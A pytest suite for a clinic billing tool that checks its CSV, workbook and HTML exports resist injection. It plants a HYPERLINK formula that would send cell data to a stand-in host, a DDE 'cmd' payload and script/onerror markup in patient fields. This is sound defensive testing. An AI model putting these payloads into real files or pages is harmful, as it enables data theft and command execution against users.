"""No cell that the tool writes is a formula but its own, whatever a patient's name says.

Every command that writes a workbook or CSV runs on a clinic whose texts are all dangerous: as a
formula, behind a tab, a line end or blanks, in full width, as a call of another program.
"""

import csv
import io
import itertools
import os
import re
import shutil
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import pytest
from end_to_end.clinic import call, new_clinic, write_csv
from openpyxl import load_workbook
from openpyxl.worksheet.formula import ArrayFormula

from tpi_billing.model.cell_text import looks_like_formula

from .place import Place
from .world import AS_OF, MONTH, PHN, Cells, build, say, visits_of

LONG = bool(os.environ.get("TPI_LONG"))
MARK = "HYPERLINK"
SIGNS = (
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "\t=",
    "\r=",
    "\n=",
    "  =",
    "\u00a0=",
    "\u3000＝",
)
DDE = f"=cmd|' /C {MARK}'!A0"


def dangerous(turn: int) -> Cells:
    """Put a formula wherever a text may stand; each place has another sign, moved on by a turn."""
    signs = itertools.cycle(SIGNS[turn:] + SIGNS[:turn])

    def text() -> str:
        return f'{next(signs)}{MARK}("http://elsewhere.example/?"&A1)'

    texts = {
        **{name: text() for name in ("address_1", "address_2", "city", "agent", "patient_id")},
        "trigger_point_sites": f"{text()}; left trapezius",
        "note": text()[:40],
    }
    others = {name: text() for name in ("patient_surname", "referral_name", "sex", "visit")}
    return Cells(
        sound=texts,
        any={**texts, **others},
        text=text(),
        ids=(f"{next(signs)}W", f"+{MARK}"),
        referral={name: text() for name in ("reason", "letter")},
    )


WRITERS: dict[str, tuple[str, ...]] = {
    "corrections of CSV": (
        "sessions",
        "import",
        "{data}/more-bad.csv",
        "--corrections",
        "{out}/fix.xlsx",
    ),
    "corrections of a workbook": (
        "sessions",
        "import",
        "{data}/bad.xlsx",
        "--corrections",
        "{out}/fix.xlsx",
    ),
    "template": ("sessions", "template", "{out}/t.xlsx"),
    "missing referrals": ("referrals", "missing", "--xlsx", "{out}/m.xlsx", "--letters", "{out}/l"),
    "check": ("check", "--xlsx", "{out}/f.xlsx"),
    "worklist": ("worklist", "--xlsx", "{out}/w.xlsx"),
    "overage": ("overage", "summary", "--xlsx", "{out}/o.xlsx"),
    "ledger": ("ledger", "export", "--out", "{out}/plain"),
    "batch 1": ("batch", "export", "1", "--out", "{out}/b1"),
    "batch 2": ("batch", "export", "2", "--out", "{out}/b2"),
    "claims to correct": ("claims", "correct", "--export", "{out}/c.xlsx"),
    "trace": ("claims", "trace", "3", "--page", "{out}/trace.html"),
    **{
        name: ("report", name, "--csv", "{out}/r.csv", "--xlsx", "{out}/r.xlsx")
        for name in (
            "books",
            "remittances",
            "receivables",
            "refusals",
            "expected",
            "adjustments",
            "write-offs",
        )
    },
    "month-end": ("report", "month-end", "2026-11", "{out}/m.xlsx"),
    "patterns": ("audit", "patterns", "--xlsx", "{out}/p.xlsx"),
    "audit report": ("audit", "report", "--month", MONTH, "--out", "{out}/audit"),
    "sample": ("audit", "sample", "--month", MONTH, "--seed", "8", "--size", "4", "{out}/s.xlsx"),
    "fees": ("fees", "import", "{data}/fees.csv", "--confirm"),
    "diagnoses": ("fees", "import", "{data}/codes.txt", "--kind", "diagnoses", "--confirm"),
    "explanatory": ("fees", "import", "{data}/codes.txt", "--kind", "explanatory", "--confirm"),
}


@pytest.fixture(scope="session", params=range(len(SIGNS)) if LONG else (5,))
def spiked_once(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Place:
    place = Place(tmp_path_factory.mktemp("spiked"))
    for folder in (place.data, place.out):
        folder.mkdir()
    clinic = new_clinic(place.root / "clinic")
    settings = clinic.workspace / "tpi-billing.toml"
    text = settings.read_text(encoding="utf-8")
    sign = SIGNS[request.param]
    name = sign.translate({9: "\\t", 10: "\\n", 13: "\\r"})
    settings.write_text(
        re.sub(r'(?m)^name = ".*"', lambda _: f'name = "{name}{MARK}(1)"', text), encoding="utf-8"
    )
    cells = dangerous(request.param)
    build(clinic, cells, place.data)
    write_inputs(place.data, cells, sign)
    return place


def write_inputs(data: Path, cells: Cells, sign: str) -> None:
    """Write what some commands read before they write."""
    from openpyxl import Workbook

    rows = [
        {**row, "session_id": f"{row['session_id']}x", f"{sign}{MARK}(head)": DDE}
        for row in visits_of(cells)
    ]
    write_csv(data / "more-bad.csv", rows)
    book = Workbook()
    page: Any = book.active
    names = list(dict.fromkeys(name for row in rows for name in row))
    for number, row in enumerate([dict(zip(names, names, strict=True)), *rows], start=1):
        for column, name in enumerate(names, start=1):
            cell = page.cell(number, column, re.sub("\r", "\n", row.get(name, "")))
            cell.data_type = "s"
    book.save(data / "bad.xlsx")
    titles = "".join(f'0115{at},6{at}.00,"{sign}{MARK}({at})"\n' for at in range(6, 8))
    head = "# edition: 2026-12-01\n# complete: no\nfee_item,amount,title\n"
    (data / "fees.csv").write_text(
        head + titles.replace("\r", "").replace("\n=", "="), encoding="utf-8", newline=""
    )
    lines = "".join(
        f"{code} {sign.strip() or sign}{MARK}(1)\n" for code in ("729", "7291", "AB", "ZY")
    )
    (data / "codes.txt").write_text(lines, encoding="utf-8")


@pytest.fixture
def spiked(spiked_once: Place, tmp_path: Path) -> Place:
    place = Place(tmp_path / "place")
    shutil.copytree(spiked_once.data, place.data)
    spiked_once.clinic.copy_to(place.root / "clinic")
    place.out.mkdir()
    return place


@pytest.mark.parametrize("who", WRITERS)
def test_no_cell_is_a_formula_but_the_tools_own(spiked: Place, who: str) -> None:
    words = [word.format(data=spiked.data, out=spiked.out) for word in WRITERS[who]]
    said = spiked.clinic.run(*words, as_of=AS_OF)
    assert said.code in {0, 1}, said.all
    written = [path for path in spiked.root.rglob("*") if path.is_file()]
    written = [path for path in written if spiked.data not in path.parents]
    assert [one for path in written for one in running(path)] == []


def running(path: Path) -> Iterator[str]:
    """Yield what a program would run in a file, each with its place."""
    if path.suffix == ".xlsx":
        yield from (f"{path.name} {one}" for one in formulas_in(path))
    elif path.suffix == ".csv":
        yield from (f"{path.name} {one}" for one in cells_in(path))
    elif path.suffix == ".html":
        yield from (f"{path.name} {one}" for one in commands_in(path))


def formulas_in(path: Path) -> Iterator[str]:
    """Yield the formulas of a workbook that are not the tool's own, and texts not told as such."""
    with ZipFile(path) as archive:
        for name in archive.namelist():
            assert "externalLink" not in name
            assert "vbaProject" not in name
    for page in load_workbook(path).worksheets:
        for row in page.iter_rows():
            for cell in row:
                value: Any = cell.value
                if isinstance(value, ArrayFormula):
                    value = value.text
                if cell.data_type == "f" and MARK in str(value):
                    yield f"{page.title}!{cell.coordinate}: {value!r}"
                if (
                    cell.data_type == "s"
                    and looks_like_formula(str(value))
                    and not cell.quotePrefix
                ):
                    yield f"{page.title}!{cell.coordinate}: {value!r} is not told to be text"
        for validation in page.data_validations.dataValidation:
            if MARK in f"{validation.formula1}{validation.formula2}{validation.prompt}":
                yield f"{page.title}: a drop-down {validation.formula1!r}"


def cells_in(path: Path) -> Iterator[str]:
    """Yield the cells of a CSV file that a spreadsheet would run; remarks are one cell each."""
    with path.open(encoding="utf-8-sig", newline="") as file:
        for row in csv.reader(file):
            for cell in row:
                if looks_like_formula(cell) and not _is_number(cell):
                    yield repr(cell[:60])


def _is_number(text: str) -> bool:
    return re.fullmatch(r"-\d+(\.\d+)?", text) is not None


def commands_in(path: Path) -> Iterator[str]:
    """Yield the scripts and links of a page that are not the tool's own."""
    found: list[str] = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            if tag in {"script", "iframe", "object", "img", "link"}:
                found.append(tag)
            found.extend(f"{tag} {name}" for name, _ in attrs if name.startswith("on"))

    Reader().feed(path.read_text(encoding="utf-8"))
    yield from found


def test_a_page_shows_markup_as_it_is_written(tmp_path: Path) -> None:
    markup = "<script>alert(1)</script><img src=x onerror=alert(1)>\"'&"
    texts = {
        "agent": markup,
        "patient_id": markup,
        "trigger_point_sites": f"{markup}; left trapezius",
    }
    cells = Cells(
        sound=texts,
        any={**texts, "patient_surname": markup},
        text=markup,
        ids=("<img src=x>W", ""),
        referral={"reason": markup},
    )
    clinic = new_clinic(tmp_path / "clinic")
    build(clinic, cells, tmp_path)
    out = tmp_path / "out"
    say(clinic, "claims", "trace", 3, "--page", out / "trace.html")
    say(clinic, "audit", "report", "--month", MONTH, "--out", out / "audit")
    pages = list(out.rglob("*.html"))
    assert len(pages) == 2
    assert [one for page in pages for one in commands_in(page)] == []


ROUND = {
    "=1+1": "=1+1",
    "+1 604 555 0100": "+1 604 555 0100",
    "-hip, left": "-hip, left",
    "@home": "@home",
    "＝1+1": "＝1+1",
    "'=1+1": "'=1+1",
    "two\nlines": "two\nlines",
}


@pytest.mark.parametrize("text", ROUND)
def test_a_value_comes_back_from_the_corrections_as_it_was(tmp_path: Path, text: str) -> None:
    clinic = new_clinic(tmp_path / "clinic")
    rows = [{**visits_of(Cells(sound={"agent": text}, any={}, text=""))[0], "chart_signed": "no"}]
    export, fix = write_csv(tmp_path / "a.csv", rows), tmp_path / "fix.xlsx"
    clinic.run("sessions", "import", export, "--corrections", fix)
    again = clinic.json("sessions", "import", fix)
    assert (again["data"]["unchanged"], again["data"]["read"]) == (1, 1)
    (stored,) = clinic.query("SELECT content FROM sessions")[0]
    assert f'"agent": {_json(text)}' in stored or f'"agent":{_json(text)}' in stored


def _json(text: str) -> str:
    import json

    return json.dumps(text, ensure_ascii=False)


@pytest.mark.parametrize("text", ROUND)
def test_a_value_comes_back_from_the_claims_to_correct_as_it_was(tmp_path: Path, text: str) -> None:
    """The workbook of corrections is read back: what nobody touched is no change."""
    clinic = new_clinic(tmp_path / "clinic")
    build(clinic, Cells(sound={"agent": text}, any={}, text="seen"), tmp_path)
    out = tmp_path / "c.xlsx"
    say(clinic, "claims", "correct", "--export", out)
    said = clinic.run("claims", "correct", "--import", out, as_of=AS_OF)
    assert said.code in {0, 1}, said.all


def test_the_csv_of_a_batch_gives_the_exact_text_back(tmp_path: Path) -> None:
    clinic = new_clinic(tmp_path / "clinic")
    build(clinic, Cells(sound={"patient_id": "=1+1"}, any={}, text="seen"), tmp_path)
    say(clinic, "batch", "export", 1, "--out", tmp_path / "b")
    (path,) = (tmp_path / "b").glob("*.csv")
    rows = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
    assert {name for name, text in rows[0].items() if text and looks_like_formula(text)} <= set()
    assert PHN in {row["phn"] for row in rows}


def test_a_demo_of_formulas_is_none(tmp_path: Path) -> None:
    """The made-up clinic's own files hold no formula but the tool's."""
    said = call(["demo", str(tmp_path / "demo")])
    assert said.code in {0, 1}, said.all
    books = sorted((tmp_path / "demo").rglob("*.xlsx"))
    assert books
    assert [one for path in books for one in formulas_in(path)] == []
